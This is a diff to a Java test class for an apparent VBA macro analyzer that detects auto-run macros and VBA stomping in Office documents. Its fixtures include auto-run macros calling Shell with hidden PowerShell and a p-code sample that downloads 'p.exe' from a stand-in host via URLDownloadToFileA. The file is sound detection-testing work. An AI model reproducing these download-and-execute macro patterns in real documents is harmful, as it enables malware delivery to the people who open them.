@@ -11,6 +11,7 @@ import dev.prefilter.engine.model.Verdict;
 import dev.prefilter.engine.office.Golden;
 import dev.prefilter.engine.office.MacroFixtures;
 import dev.prefilter.engine.office.MacroFixtures.Module;
+import dev.prefilter.engine.office.PcodeFixtures;
 import dev.prefilter.engine.report.Report;
 import dev.prefilter.engine.report.ReportNode;
 import dev.prefilter.engine.testing.TestEngines;
@@ -235,22 +236,104 @@ class VbaAnalyzerTest {
         assertEquals(Severity.INFO, report.findings().get(0).severity());
     }
 
+    /** Empty procedure stubs, auto-run names included, beside declarations: nothing can run. */
+    private static final String EMPTY_STUBS = """
+            Option Explicit
+            Private Type Pair
+                a As Long
+                b As Long
+            End Type
+            Dim counter As Long ' not used yet
+            Public Const NAME_ As String = "x: y"
+            Private Declare PtrSafe Function GetTickCount Lib "kernel32" () As Long
+
+            Sub Auto_Open()
+            End Sub
+
+            Private Function Helper(ByVal text As String, Optional ByVal sep As String = ":") As String()
+                ' to do
+                Rem later
+            End Function
+            """.replace("\n", "\r\n");
+
+    @Test
+    void projectWhoseProceduresAreAllEmptyIsInfoNotAMacro() {
+        byte[] bin = MacroFixtures.vbaProjectBin(
+                List.of(
+                        Module.standard("Module1", EMPTY_STUBS),
+                        Module.document("ThisWorkbook", "Private Sub Workbook_Open()\r\n\r\nEnd Sub\r\n")),
+                new byte[] {(byte) 0xCC, 0x61});
+        Report report = TestEngines.scanFile("budget.docm", MacroFixtures.docm(bin));
+        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
+        assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
+    }
+
+    @Test
+    void oneStatementInAStubMakesItAMacroAgain() {
+        for (String statement : List.of("    counter = 1", "    Helper \"a\"", "    GetTickCount")) {
+            String source = EMPTY_STUBS.replace("Sub Auto_Open()\r\n", "Sub Auto_Open()\r\n" + statement + "\r\n");
+            Report report =
+                    TestEngines.scanFile("budget.doc", MacroFixtures.doc(List.of(Module.standard("Module1", source))));
+            assertTrue(TestEngines.codes(report).contains("vba.macros"), statement + ": " + report.findings());
+            assertTrue(TestEngines.codes(report).contains("vba.autoexec"), statement + ": " + report.findings());
+        }
+        Report oneLine = TestEngines.scanFile(
+                "one.doc",
+                MacroFixtures.doc(List.of(Module.standard("Module1", "Sub AutoOpen(): Shell \"calc\": End Sub\r\n"))));
+        assertEquals(Verdict.MALICIOUS, oneLine.verdict(), "a statement after the header's colon runs");
+    }
+
+    @Test
+    void evidenceCitesTheLiveCallNotACommentedOutOne() {
+        String source = """
+                Sub AutoOpen()
+                    ' Shell "cmd /c old.bat"   (kept for reference)
+                    x = 1 ' was: Shell "cmd /c older.bat"
+                    Shell "cmd /c calc", vbHide
+                End Sub
+                """.replace("\n", "\r\n");
+        Report report = TestEngines.scanFile("c.doc", MacroFixtures.doc(List.of(Module.standard("M", source))));
+        Finding shell = findings(report, "vba.execute").stream()
+                .filter(f -> "Shell".equals(f.evidence().get("keyword")))
+                .findFirst()
+                .orElseThrow();
+        assertEquals(4, shell.evidence().get("line"), shell.evidence().toString());
+        assertEquals("Shell \"cmd /c calc\", vbHide", shell.evidence().get("code"));
+        assertEquals(3, shell.evidence().get("occurrences"), "the commented lines still count as occurrences");
+        Finding rule = findings(report, "vba.autoexec-write-execute").get(0);
+        assertEquals(4, rule.evidence().get("actionLine"));
+    }
+
     @Test
     void emptySourceOverRealPcodeIsStomping() {
-        Module stomped = Module.document("ThisDocument", "")
-                .withPcode("\u0000Document_Open\u0000Shell\u0000powershell -enc AAA\u0000");
-        Report report = TestEngines.scanFile("e.doc", MacroFixtures.doc(List.of(stomped)));
+        PcodeFixtures compiled = new PcodeFixtures();
+        PcodeFixtures.Module pcode = compiled.module();
+        pcode.line(pcode.sub("Document_Open"))
+                .line(pcode.literal("powershell -enc AAA"), pcode.call("Shell", 1))
+                .line(pcode.endSub());
+        Module stomped = Module.document("ThisDocument", "").withPcode(pcode.build());
+        Report report = TestEngines.scanFile("e.doc", MacroFixtures.doc(List.of(stomped), compiled.vbaProject()));
+        Finding f = findings(report, "vba.stomping").get(0);
+        assertEquals(List.of("ThisDocument"), f.evidence().get("modules"));
         assertTrue(
-                TestEngines.codes(report).contains("vba.stomping"),
-                report.findings().toString());
+                f.evidence().get("onlyInPcode").toString().contains("Document_Open (autoexec)"),
+                f.evidence().toString());
         assertEquals(Verdict.MALICIOUS, report.verdict(), "auto-run and Shell only in the p-code");
     }
 
     @Test
     void stompedSourceIsReportedFromThePcode() {
+        PcodeFixtures compiled = new PcodeFixtures();
+        PcodeFixtures.Module pcode = compiled.module();
+        pcode.line(pcode.sub("AutoOpen"))
+                .line(
+                        pcode.literal("http://x.example/p.exe"),
+                        pcode.literal("C:\\Users\\Public\\p.exe"),
+                        pcode.call("URLDownloadToFileA", 2))
+                .line(pcode.endSub());
         Module stomped = Module.standard("Module1", "Sub Hello()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n")
-                .withPcode("\u0000\u0001AutoOpen\u0000\u0003URLDownloadToFileA\u0000http://x.example/p.exe\u0000");
-        Report report = TestEngines.scanFile("s.doc", MacroFixtures.doc(List.of(stomped)));
+                .withPcode(pcode.build());
+        Report report = TestEngines.scanFile("s.doc", MacroFixtures.doc(List.of(stomped), compiled.vbaProject()));
         Finding f = findings(report, "vba.stomping").get(0);
         assertEquals(Severity.CRITICAL, f.severity(), "auto-run and download only in the p-code");
         assertTrue(
@@ -261,10 +344,59 @@ class VbaAnalyzerTest {
 
     @Test
     void matchingSourceAndPcodeIsNotStomping() {
-        Module honest =
-                Module.standard("Module1", SHELL_ON_OPEN).withPcode("\u0000AutoOpen\u0000Shell\u0000powershell");
-        Report report = TestEngines.scanFile("h.doc", MacroFixtures.doc(List.of(honest)));
+        PcodeFixtures compiled = new PcodeFixtures();
+        PcodeFixtures.Module pcode = compiled.module();
+        pcode.line(pcode.sub("AutoOpen"))
+                .line()
+                .line(pcode.literal("powershell -nop -w hidden -c calc"))
+                .line(pcode.load("cmd"), pcode.load("vbHide"), pcode.call("Shell", 2))
+                .line(pcode.endSub());
+        Module honest = Module.standard("Module1", SHELL_ON_OPEN).withPcode(pcode.build());
+        Report report = TestEngines.scanFile("h.doc", MacroFixtures.doc(List.of(honest), compiled.vbaProject()));
         assertTrue(findings(report, "vba.stomping").isEmpty(), report.findings().toString());
+        assertEquals(Verdict.MALICIOUS, report.verdict(), "the source itself says AutoOpen and Shell");
+    }
+
+    /**
+     * A document cleaned of a macro virus long ago: the project's identifier table still lists the
+     * old names (AutoOpen, Shell, URLDownloadToFileA), but its module has no source and its compiled
+     * part is zeros after the header. Nothing can run, so nothing was stomped.
+     */
+    @Test
+    void leftoverNamesInTheProjectTableWithoutCompiledCodeAreNotStomping() {
+        PcodeFixtures compiled = new PcodeFixtures();
+        compiled.id("AutoOpen");
+        compiled.id("Shell");
+        compiled.id("URLDownloadToFileA");
+        byte[] zeroedCache = new byte[0x400];
+        zeroedCache[0] = 0x01;
+        zeroedCache[1] = 0x16;
+        Module emptied = Module.document("ThisDocument", "").withPcode(zeroedCache);
+        Module neverCompiled = Module.standard("Module1", "");
+        Report report = TestEngines.scanFile(
+                "cleaned.doc", MacroFixtures.doc(List.of(emptied, neverCompiled), compiled.vbaProject()));
+        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
+        assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
+    }
+
+    /**
+     * The same leftover names beside a module with real compiled code that does not use them: only
+     * what some module's p-code refers to counts.
+     */
+    @Test
+    void leftoverNamesBesideRealCodeAreNotStomping() {
+        PcodeFixtures compiled = new PcodeFixtures();
+        compiled.id("AutoOpen");
+        compiled.id("URLDownloadToFileA");
+        PcodeFixtures.Module pcode = compiled.module();
+        pcode.line(pcode.sub("Greet"))
+                .line(pcode.literal("hello"), pcode.call("MsgBox", 1))
+                .line(pcode.endSub());
+        Module greet = Module.standard("Module1", "Sub Greet()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n")
+                .withPcode(pcode.build());
+        Report report = TestEngines.scanFile("greet.doc", MacroFixtures.doc(List.of(greet), compiled.vbaProject()));
+        assertTrue(findings(report, "vba.stomping").isEmpty(), report.findings().toString());
+        assertEquals(List.of("vba.macros"), TestEngines.codes(report));
     }
 
     @Test
